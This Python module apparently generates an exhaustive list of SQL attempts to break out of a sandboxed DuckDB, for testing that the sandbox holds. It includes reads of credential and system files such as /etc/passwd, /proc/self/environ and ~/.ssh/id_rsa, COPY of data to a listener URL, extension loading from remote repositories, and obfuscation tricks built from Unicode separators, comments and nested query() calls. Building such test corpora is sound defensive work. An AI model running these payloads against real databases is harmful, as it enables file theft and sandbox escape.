"""Every way that we know to get out of a DuckDB by SQL, made from the catalogue of the engine that is installed.

`vectors(targets)` gives the same list for the same engine and targets. A vector may be several texts: the first make
something (a view, a macro), the last one uses it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import duckdb

# What DuckDB, or one of its parsers, takes for a space, and what hides the end of a word from somebody.
SEPARATORS = (
    *("\u00a0", "\u1680", "\u2000", "\u2003", "\u200a", "\u200b", "\u200c", "\u200d", "\u2028", "\u2029", "\u202f"),
    *(
        "\u205f",
        "\u2060",
        "\u3000",
        "\ufeff",
        "\t",
        "\r",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x85",
        "--\n",
        "--\r",
        "--\r\n",
        "/**/",
    ),
    *("/*/**/*/", "/*\n*/", "--INTO\n", "/*INTO*/ ", "-- CREATE TABLE\n", "/*'*/", "--'\n", '/*"*/', "/*$$*/", "--`\n"),
)
_FETCHES = ("http:", "s3:", "hf:", "md:", "postgres", "sqlite", "INSTALL", "EXTENSIONS", "xlsx", "arrow", "LOAD")
SLOW = frozenset({"sleep_ms", "pg_sleep", "repeat", "range", "generate_series", "error", "test_all_types"})


@dataclass(frozen=True)
class Targets:
    """What must not be got: files with canaries in them, a folder to write into, a listener, other databases."""

    text: str
    csv: str
    json: str
    parquet: str
    database: str
    globbed: str
    made: str
    other: str
    control: str
    url: str

    def readable(self) -> tuple[str, ...]:
        """Everything that could be read, by every spelling."""
        return (
            *(self.text, self.csv, self.json, self.parquet, self.database, self.globbed, self.other, self.control),
            *(
                f"file://{self.text}",
                f"file:{self.csv}",
                f"{self.made}/../secret.txt",
                "/etc/passwd",
                "/proc/self/environ",
            ),
            *("/proc/self/maps", "/proc/1/cmdline", f"{self.url}/secret.csv", "s3://bucket/secret.parquet"),
            *("hf://datasets/x/y.csv", "~/.ssh/id_rsa", f"/proc/self/root{self.text}", f"/dev/fd/../../..{self.text}"),
        )


@dataclass(frozen=True)
class Vector:
    """One attempt; `name` says what it is made of."""

    name: str
    texts: tuple[str, ...]

    @property
    def is_slow(self) -> bool:
        """Whether a DuckDB with open locks looks for an extension, and tries that again for up to a second."""
        return any(mark in text for text in self.texts for mark in _FETCHES)


def vectors(targets: Targets) -> list[Vector]:
    """All of them, each text once."""
    found: dict[tuple[str, ...], Vector] = {}
    for make in (_functions, _scans, _statements, _copies, _settings, _pragmas, _hidden, _indirect, _telling):
        for vector in make(targets):
            found.setdefault(vector.texts, vector)
    return list(found.values())


def _one(name: str, *texts: str) -> Vector:
    return Vector(name, texts)


def _of_type(*types: str) -> list[str]:
    listed = ", ".join(f"'{kind}'" for kind in types)
    sql = f"SELECT DISTINCT function_name FROM duckdb_functions() WHERE function_type IN ({listed}) ORDER BY 1"
    with duckdb.connect(":memory:") as connection:
        return [name for (name,) in connection.execute(sql).fetchall() if name.isidentifier() and name not in SLOW]


def _functions(targets: Targets) -> Iterator[Vector]:
    """Every table function on every target; every scalar function on one."""
    for name in _of_type("table", "table_macro", "pragma"):
        yield _one(f"{name}()", f"SELECT * FROM {name}()")
        for target in targets.readable() if _reads(name) else (targets.text, targets.url):
            yield _one(f"{name}(target)", f"SELECT * FROM {name}('{target}')")
        yield _one(f"{name}(list)", f"SELECT * FROM {name}(['{targets.text}', '{targets.csv}'])")
        yield _one(f"CALL {name}", f"CALL {name}('{targets.text}')")
        yield _one(f'"{name}"', f"SELECT * FROM system.main.\"{name}\"('{targets.text}')")
    for name in _of_type("scalar", "macro"):
        yield _one(f"scalar {name}", f"SELECT {name}('{targets.text}')")


def _reads(name: str) -> bool:
    return any(
        part in name for part in ("read", "scan", "parquet", "sniff", "glob", "query", "execute", "import", "blob")
    )


def _scans(targets: Targets) -> Iterator[Vector]:
    """A file or an address in the place of a table."""
    forms = (
        *("FROM '{}'", 'FROM "{}"', "SELECT * FROM '{}' AS t", "TABLE '{}'", "DESCRIBE '{}'", "SUMMARIZE '{}'"),
        *("SELECT (SELECT count(*) FROM '{}')", "WITH x AS (FROM '{}') FROM x", "PIVOT '{}' ON 1 USING count(*)"),
        *("EXPLAIN ANALYZE FROM '{}'", "SELECT 1 WHERE EXISTS (FROM '{}')", "INSERT INTO t SELECT * FROM '{}'"),
        *("CREATE OR REPLACE TABLE grabbed AS FROM '{}'", "FROM '{}' LIMIT 1", "FROM t, '{}'", "SHOW '{}'"),
        *("SELECT * FROM t JOIN '{}' ON true", "UPDATE t SET n = 1 FROM '{}'", "DELETE FROM t USING '{}'"),
    )
    for form in forms:
        for target in targets.readable():
            yield _one(form, form.format(target))


def _statements(targets: Targets) -> Iterator[Vector]:
    """ATTACH and its relatives, extensions, secrets, transactions, prepared statements."""
    options = ("", " (READ_ONLY)", " (TYPE sqlite)", " (TYPE postgres)", " (TYPE duckdb, ENCRYPTION_KEY 'x')")
    for target in (*targets.readable(), f"{targets.made}/new.duckdb", ":memory:", "postgres:host=127.0.0.1", "md:x"):
        for option in options:
            yield _one("ATTACH", f"ATTACH '{target}' AS stolen{option}")
        yield _one("ATTACH and read", f"ATTACH '{target}' AS stolen (READ_ONLY)", "SELECT * FROM stolen.main.t")
        yield _one("ATTACH IF NOT EXISTS", f"ATTACH IF NOT EXISTS DATABASE '{target}'")
    for name in ("httpfs", "postgres", "sqlite", "aws", "json", "nosuch", targets.text):
        for form in (
            "INSTALL '{}'",
            "FORCE INSTALL '{}'",
            "LOAD '{}'",
            "UPDATE EXTENSIONS ({})",
            "INSTALL '{}' FROM core",
        ):
            yield _one(form, form.format(name))
        yield _one("INSTALL FROM", f"INSTALL '{name}' FROM '{targets.url}'")
        yield _one("INSTALL FROM a folder", f"INSTALL '{name}' FROM '{targets.made}'")
    for form in (
        *(
            "CREATE SECRET s (TYPE http)",
            "CREATE PERSISTENT SECRET s (TYPE http)",
            "DROP SECRET s",
            "USE other",
            "USE system",
        ),
        *(
            "DETACH mine",
            "DETACH DATABASE IF EXISTS other",
            "BEGIN",
            "COMMIT",
            "ROLLBACK",
            "CHECKPOINT",
            "FORCE CHECKPOINT",
        ),
        *("VACUUM FULL", "EXECUTE p", "DEALLOCATE p", "SET VARIABLE x = 1", "ALTER DATABASE mine SET ALIAS TO yours"),
        *(
            "SELECT * FROM other.main.t",
            "SELECT * FROM other.t",
            "INSERT INTO other.main.t VALUES (1)",
            "DROP DATABASE mine",
        ),
        *(
            "CREATE TABLE other.main.x (n INT)",
            "CREATE DATABASE x",
            "COPY FROM DATABASE other TO mine",
            "CREATE SCHEMA other.x",
        ),
        *(
            "EXPORT DATABASE '{m}/x'",
            "EXPORT DATABASE '{m}/x' (FORMAT parquet)",
            "IMPORT DATABASE '{m}'",
            "UPDATE EXTENSIONS",
        ),
        *("PREPARE p AS FROM read_text('{t}')", "PREPARE p AS COPY t TO '{m}/p.csv'", "LOAD '{m}/x.duckdb_extension'"),
        *(
            "SELECT 1; COPY t TO '{m}/second.csv'",
            "SELECT 1;\nATTACH '{t}'",
            "; ; FROM read_text('{t}')",
            "SELECT 1\0; LOAD x",
        ),
        *("COMMENT ON TABLE t IS '{t}'; FROM read_text('{t}')", "EXPLAIN ANALYZE COPY t TO '{m}/explained.csv'"),
    ):
        yield _one(form, form.replace("{m}", targets.made).replace("{t}", targets.text))


def _copies(targets: Targets) -> Iterator[Vector]:
    """COPY in every direction and form."""
    for form in ("csv", "parquet", "json", "arrow", "blob", "xlsx", "nosuch"):
        for source in ("t", "(SELECT 1 AS n)", "(FROM t)"):
            for place in (f"{targets.made}/copied.{form}", f"{targets.url}/x.{form}", "/dev/stdout", "/tmp/copied.out"):
                yield _one(f"COPY TO {form}", f"COPY {source} TO '{place}' (FORMAT {form})")
        for target in (targets.text, targets.csv, targets.json, targets.parquet, targets.url, targets.globbed):
            yield _one(f"COPY FROM {form}", f"COPY t FROM '{target}' (FORMAT {form})")
    for tail in (
        "(PARTITION_BY (n))",
        "(PER_THREAD_OUTPUT)",
        "(FILE_SIZE_BYTES 10)",
        "(USE_TMP_FILE false)",
        "(APPEND)",
    ):
        yield _one(f"COPY TO {tail}", f"COPY t TO '{targets.made}/tree' {tail}")


def _settings(targets: Targets) -> Iterator[Vector]:
    """Every setting, by every statement that sets one."""
    with duckdb.connect(":memory:") as connection:
        names = [name for (name,) in connection.execute("SELECT name FROM duckdb_settings() ORDER BY 1").fetchall()]
    for name in names:
        value = _value_for(name, targets)
        for form in ("SET {} = {}", "SET GLOBAL {} = {}", "PRAGMA {} = {}", "SET SESSION {} = {}"):
            yield _one(form.format(name, "…"), form.format(name, value))
        yield _one(f"RESET {name}", f"RESET {name}")
        yield _one("set_config", f"SELECT set_config('{name}', {value}, false)")


def _value_for(name: str, targets: Targets) -> str:
    if any(part in name for part in ("directory", "directories", "path", "output", "file")):
        return f"'{targets.made}'"
    if "repository" in name:
        return f"'{targets.url}'"
    return "'1'" if any(part in name for part in ("threads", "limit", "size", "count")) else "true"


def _pragmas(targets: Targets) -> Iterator[Vector]:
    for name in _of_type("pragma"):
        yield _one(f"PRAGMA {name}", f"PRAGMA {name}")
        yield _one(f"PRAGMA {name}(…)", f"PRAGMA {name}('{targets.text}')")
        yield _one(f"PRAGMA {name} = …", f"PRAGMA {name} = '{targets.made}'")


def _hidden(targets: Targets) -> Iterator[Vector]:
    """Calls and words that are written so that a look at the text might miss them."""
    for separator in SEPARATORS:
        for call in (
            f"read_text{separator}('{targets.text}')",
            f"query{separator}('FROM read_text(''{targets.text}'')')",
        ):
            for front in ("SELECT * FROM", "FROM"):
                yield _one("separator before and behind", f"{front}{separator}{call}")
                yield _one("separator behind", f"{front} {call}")
        yield _one("CREATE SECRET", f"CREATE{separator}SECRET{separator}s (TYPE http)")
        yield _one("ALTER DATABASE", f"ALTER{separator}DATABASE{separator}mine SET ALIAS TO yours")
        yield _one("COPY", f"COPY{separator}t{separator}TO '{targets.made}/hidden.csv'")
        yield _one("second statement", f"SELECT 1{separator};{separator}ATTACH '{targets.database}'")
    for name in (
        "`read_text`",
        '"read_text"',
        '"READ_TEXT"',
        "Read_Text",
        "system.main.read_text",
        '"system"."main"."read_text"',
    ):
        yield _one(name, f"FROM {name}('{targets.text}')")
        yield _one(f"{name} by name", f"FROM {name}(file := '{targets.text}')")
    for text in (
        *("SELECT * FROM t) ; FROM read_text('{}') --", "SELECT 1) t, (FROM read_text('{}')", "FROM read_text($${}$$)"),
        *("FROM read_text(e'{}')", "FROM read_text('' || '{}')", "SELECT x FROM (VALUES ('{}')) v(x), read_text(x)"),
        *(
            "SELECT $a$ ' $a$, * FROM read_text('{}')",
            "/* FROM t */ FROM read_text('{}') /* */",
            "FROM read_text ('{}') -- '",
        ),
        *(
            "FROM\u00a0read_text('{}') WHERE '\u00a0' = '\u00a0'",
            "FROM read_text\uff08'{}'\uff09",
            "FROM ｒｅａｄ_ｔｅｘｔ('{}')",
        ),
        *(
            "WITH read_text AS (SELECT 1) FROM read_text('{}')",
            "FROM (FROM read_text('{}'))",
            "SELECT [x for x in (FROM read_text('{}'))]",
        ),
        *(
            "VALUES ((SELECT content FROM read_text('{}')))",
            "SELECT COLUMNS(*) FROM read_text('{}')",
            "FROM range(1), LATERAL read_text('{}')",
        ),
        *(
            "SELECT 1 UNION ALL SELECT length(content) FROM read_text('{}')",
            "SELECT * FROM t WHERE n IN (SELECT size FROM read_text('{}'))",
        ),
        *(
            "WITH RECURSIVE r AS (SELECT content FROM read_text('{}') UNION ALL FROM r) FROM r",
            "FROM t POSITIONAL JOIN read_text('{}')",
        ),
        *(
            "WITH x AS MATERIALIZED (FROM read_text('{}')) FROM x",
            "FROM t ASOF JOIN read_text('{}') r ON t.n >= r.size",
        ),
        *(
            "EXPLAIN ANALYZE SELECT * FROM read_text('{}')",
            "DESCRIBE FROM read_text('{}')",
            "SUMMARIZE FROM read_text('{}')",
        ),
        *("PIVOT (FROM read_text('{}')) ON filename USING count(*)", "UNPIVOT (FROM read_text('{}')) ON content"),
        *("SELECT getvariable('x'), * FROM read_text('{}')", "SELECT read_text('{}')", "SELECT '{}'.read_text()"),
    ):
        yield _one(text, text.replace("{}", targets.text))


def _indirect(targets: Targets) -> Iterator[Vector]:
    """Through something that is made first, or that carries SQL as data."""
    reads = (
        *(
            f"FROM read_text('{targets.text}')",
            f"FROM '{targets.csv}'",
            f"SELECT * FROM read_parquet('{targets.parquet}')",
        ),
        *(f"FROM glob('{targets.globbed}')", f"FROM read_blob('{targets.other}')", f"FROM read_csv('{targets.csv}')"),
    )
    for read in reads:
        quoted = read.replace("'", "''")
        yield _one("view", f"CREATE OR REPLACE VIEW v AS {read}", "FROM v")
        yield _one("temp view", f"CREATE OR REPLACE TEMP VIEW v AS {read}", "FROM v")
        yield _one("table macro", f"CREATE OR REPLACE MACRO m() AS TABLE {read}", "FROM m()")
        yield _one("scalar macro", f"CREATE OR REPLACE MACRO m() AS (SELECT count(*) FROM ({read}))", "SELECT m()")
        yield _one(
            "macro over the name",
            f"CREATE OR REPLACE MACRO lower(x) AS (SELECT count(*) FROM ({read}))",
            "SELECT lower('A')",
        )
        yield _one("table", f"CREATE OR REPLACE TABLE grabbed AS {read}", "FROM grabbed")
        yield _one("insert", f"INSERT INTO grabbed BY NAME {read}", "FROM grabbed")
        yield _one("default", f"CREATE OR REPLACE TABLE d (n INT DEFAULT (SELECT count(*) FROM ({read})))")
        yield _one("generated", f"CREATE OR REPLACE TABLE d (n INT, g AS ((SELECT count(*) FROM ({read}))))")
        yield _one("check", f"CREATE OR REPLACE TABLE d (n INT CHECK ((SELECT count(*) FROM ({read})) > 0))")
        yield _one("enum", f"CREATE TYPE e AS ENUM (SELECT content::VARCHAR FROM ({read}))")
        yield _one("index", f"CREATE INDEX i ON t ((SELECT count(*) FROM ({read})))")
        yield _one("alter", f"ALTER TABLE t ADD COLUMN c INT DEFAULT (SELECT count(*) FROM ({read}))")
        yield _one("merge", f"MERGE INTO t USING ({read}) s ON false WHEN NOT MATCHED THEN INSERT VALUES (1)")
        yield _one("returning", f"INSERT INTO t VALUES (1) RETURNING (SELECT count(*) FROM ({read}))")
        yield _one("trigger", f"CREATE TRIGGER tr AFTER INSERT ON t EXECUTE ({read})")
        yield _one("variable", f"SET VARIABLE x = (SELECT count(*) FROM ({read}))")
        yield _one("query()", f"FROM query('{quoted}')")
        yield _one("query() of query()", f"FROM query('FROM query(''{quoted.replace(chr(39), chr(39) * 2)}'')')")
        yield _one("query() by format", f"FROM query(format('{{}}', '{quoted}'))")
        yield _one("serialized", f"FROM json_execute_serialized_sql(json_serialize_sql('{quoted}'))")
        yield _one("PRAGMA serialized", f"PRAGMA json_execute_serialized_sql(json_serialize_sql('{quoted}'))")
        yield _one("explain", f"EXPLAIN {read}")
        yield _one("deleting", f"WITH d AS (DELETE FROM t RETURNING *) {read}")
    for target in targets.readable():
        yield _one("query_table", f"FROM query_table('{target}')")
        yield _one("query_table of a list", f"FROM query_table(['{target}'])")
        yield _one("comment", f"COMMENT ON TABLE t IS '{target}'", "SELECT comment FROM duckdb_tables()")


def _telling(targets: Targets) -> Iterator[Vector]:
    """What could show where the server keeps its files."""
    names = (
        *(
            "duckdb_databases",
            "duckdb_settings",
            "pragma_database_list",
            "pg_settings",
            "duckdb_secrets",
            "duckdb_extensions",
        ),
        *(
            "duckdb_temporary_files",
            "duckdb_logs",
            "duckdb_external_file_cache",
            "sqlite_master",
            "pg_database",
            "pg_catalog.pg_settings",
        ),
        *(
            "duckdb_tables",
            "duckdb_views",
            "duckdb_variables",
            "information_schema.schemata",
            "information_schema.tables",
            "duckdb_memory",
        ),
    )
    for name in names:
        for form in (
            "FROM {}",
            "FROM {}()",
            "SELECT * FROM system.main.{}",
            'FROM "{}"',
            "DESCRIBE {}",
            "FROM\u00a0{}()",
            "FROM {}--\r()",
        ):
            yield _one(f"shows {name}", form.format(name))
    for name in (
        "temp_directory",
        "allowed_paths",
        "allowed_directories",
        "home_directory",
        "secret_directory",
        "extension_directory",
    ):
        halves = name[:4], name[4:]
        yield _one("setting", f"SELECT current_setting('{name}')")
        yield _one("setting in halves", f"SELECT current_setting('{halves[0]}' || '{halves[1]}')")
        yield _one("setting escaped", f"SELECT current_setting(e'\\x{ord(name[0]):02x}{name[1:]}')")
        yield _one("setting in dollars", f"SELECT current_setting($${name}$$)")
        yield _one("setting from a table", f"SELECT current_setting(n) FROM (VALUES ('{name}')) v(n)")
        yield _one("setting of a text", f"SELECT '{name}'.current_setting()")
        yield _one("setting by macro", "CREATE OR REPLACE MACRO s(x) AS current_setting(x)", f"SELECT s('{name}')")
        yield _one("setting shown", f"SHOW {name}")
    for text in (
        "SELECT getenv('HOME')",
        "SELECT getenv('CANARY')",
        "SELECT current_query()",
        "FROM pragma_user_agent()",
    ):
        yield _one(text, text)
    yield _one("own place", f"SELECT '{targets.made}'")
